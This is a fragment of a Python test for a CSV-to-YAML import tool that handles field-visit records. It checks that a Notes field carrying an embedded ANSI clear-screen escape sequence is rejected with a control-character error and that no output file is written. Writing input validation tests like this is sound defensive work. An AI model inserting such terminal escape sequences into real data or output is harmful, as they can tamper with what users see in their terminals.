                                 "2024-09-18,song cau,,field survey,\"Họp\x1b[2J dân\"\n",
                                 encoding="utf-8")
    run = theodoi("import", "visits", "log.csv", "--data", "data", cwd=cwd)
    assert_clean_failure(run)
    assert ("log.csv:3:5 (E3): error [control-character]: Notes holds a control character "
            "(U+001B)") in run.stderr, run.stderr
    assert not (cwd / "data" / "visits" / "2024" / "2024-09-17.yaml").exists()
